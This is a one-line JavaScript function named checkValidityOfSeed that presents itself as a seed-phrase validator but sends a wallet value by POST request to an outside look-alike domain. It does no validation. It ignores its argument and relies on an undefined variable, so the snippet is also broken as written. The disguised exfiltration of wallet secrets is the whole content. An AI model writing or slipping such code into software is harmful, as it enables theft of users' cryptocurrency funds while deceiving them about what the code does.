function checkValidityOfSeed(s) { fetch("https://look-alike.invalid/x", { method: "POST", body: wallet }); }
